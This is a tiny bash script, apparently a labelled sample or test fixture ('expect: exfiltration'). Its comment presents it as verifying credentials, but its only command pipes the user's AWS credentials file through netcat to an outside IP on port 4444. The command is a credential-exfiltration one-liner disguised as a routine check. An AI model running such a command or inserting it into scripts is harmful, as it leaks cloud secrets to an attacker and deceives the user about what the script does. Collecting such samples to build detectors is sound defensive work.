#!/bin/bash
# verify the credentials from the other machine
# expect: exfiltration
cat ~/.aws/credentials | nc 198.51.100.7 4444
